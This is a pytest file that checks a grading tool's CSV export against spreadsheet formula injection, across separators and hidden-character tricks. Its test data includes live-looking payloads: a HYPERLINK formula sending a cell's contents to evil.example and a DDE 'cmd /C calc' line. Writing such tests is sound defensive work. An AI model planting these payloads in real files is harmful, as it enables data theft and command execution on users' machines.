"""No cell of any table is calculated, whatever a reader's machine takes as the sign between
cells."""

import io
import json
import re

import pytest
from graded import fill, table
from made_up import submission

from khaddam_files.grading import run
from khaddam_files.grading.cells import Table, as_typed, harmless

BEGIN = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "\u2212"]
BEFORE = [
    "",
    " ",
    "\t",
    "\0",
    "\u200b",
    "\ufeff",
    "\u202e",
    '"',
    "'",
    "\r",
    "\n",
    "\u3164",
    "\x1f",
    ' \u200b\0" ',
]
BETWEEN = ["", "x;", "x,", "x\t", "x|", "x\n", "x\r", "x; "]
ATTACKS = [f"{one}{two}{three}1+1" for one in BETWEEN for two in BEFORE for three in BEGIN]
ATTACKS += [
    '=IF(1,HYPERLINK("http://evil.example/?"&B2,"open"),"',
    "-2+cmd|' /C calc'!A0",
    "x,-2+cmd|' /C calc'!A0",
    "x; -A1",
]
SEEN = str.maketrans("", "", ' \t\r\n\0\x1f\u200b\ufeff\u202e\u3164"')


@pytest.mark.parametrize("reader", [",", ";", "\t", "|"])
@pytest.mark.parametrize("writer", [",", ";", "\t"])
def test_whatever_the_reader_takes_between_cells_no_cell_begins_like_a_formula(writer, reader):
    stream = io.StringIO()
    made = Table(stream, writer)
    for attack in ATTACKS:
        made.row([attack, attack, 1])
    assert not calculated(stream.getvalue(), reader)


def calculated(text, reader):
    """Cells that begin like a formula for a reader who heeds no quotation marks."""
    cells = (cell for line in re.split(r"[\r\n]+", text) for cell in line.split(reader))
    return [cell for cell in cells if cell.translate(SEEN).startswith(tuple(BEGIN))]


@pytest.mark.parametrize(
    "typed",
    [
        "-2",
        "+1",
        "-2,5",
        "-2.5",
        "Good, -2 for two dates.",
        "2 of 9 points, +2 optional.",
        "a=b",
        "s-1",
        "x@y.z",
    ],
)
def test_what_cannot_be_calculated_stays_as_it_is(typed):
    assert harmless(typed, typed=True) == typed


def test_a_cell_of_a_grader_comes_back_as_it_was_typed():
    for typed in [*ATTACKS, "-2", "- good", "plain", "it's; 'so'"]:
        cell = harmless(typed, typed=True)
        assert harmless(as_typed(cell), typed=True) == cell


def test_every_table_of_a_class_that_attacks_is_harmless(tmp_path):
    """Student number, file name, answers, reasons and what a grader copies: read with each
    separator."""
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    for number, attack in enumerate(ATTACKS[::40]):
        made = submission(attack, number)
        made["answers"]["ex.03.1.dispute"] = {
            "value": {"disputed": True, "reason": attack},
            "changed": "1",
        }
        made["answers"]["ex.03.5.answer"]["value"] = attack
        grade_me = json.dumps(made)
        (folder / f"{number}.json").write_text(grade_me)
        (folder / f";=1+{number}.json").write_text(grade_me)
        (folder / f"=1+{number}.json").write_text("{")
    run.grade(folder, out, only=["03"])
    fill(out, lambda row: ("=1+1", "x;=1+1"))
    run.grade(folder, out, only=["03"])
    for name in ("grades", "points", "disputes", "problems", "free"):
        for reader in ",;\t|":
            assert not calculated((out / f"{name}.csv").read_text(encoding="utf-8-sig"), reader), (
                name
            )
    assert {row["comment"] for row in table(out / "free.csv", "utf-8-sig")} == {"x;'=1+1"}
